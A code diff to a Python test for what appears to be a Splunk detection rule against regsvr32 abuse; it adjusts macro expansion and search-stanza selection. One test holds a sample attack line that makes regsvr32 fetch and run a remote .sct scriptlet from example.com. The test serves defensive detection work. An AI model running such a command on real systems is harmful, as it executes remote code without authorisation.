@@ -204,7 +204,8 @@ def _tstats_rows(stanza, rows):
     fill = re.search(r'fillnull_value=("[^"]*"|\S+)', options).group(1).strip('"')
     by = macros["regsvr32_process_fields"]["definition"].split()
     rows = [dict((f, row.get(f, fill)) for f in by) for row in rows]
-    head = search[:search.index("| regsvr32detect")]
+    head = search[:search.index("| regsvr32detect")].replace(
+        "`regsvr32_process_starts`", macros["regsvr32_process_starts"]["definition"])
     assert head.startswith("| tstats `regsvr32_summariesonly`"), head
     for name in re.findall(r"\|\s*`(\w+)`", head):
         definition = macros[name]["definition"]
@@ -224,7 +225,7 @@ def test_a_tstats_row_without_user_or_host_gives_no_risk_object():
     from support.events import cim
     from test_conf import conf
     saved = conf("savedsearches.conf")
-    stanza = next(s for s in saved.sections() if "datamodel=Endpoint.Processes" in saved[s]["search"]
+    stanza = next(s for s in saved.sections() if "`regsvr32_process_starts`" in saved[s]["search"]
                   and "R32-001" in saved[s]["search"])
     attack = "regsvr32 /s /n /u /i:http://example.com/file.sct scrobj.dll"
     full = cim(attack, prefix="Processes.")
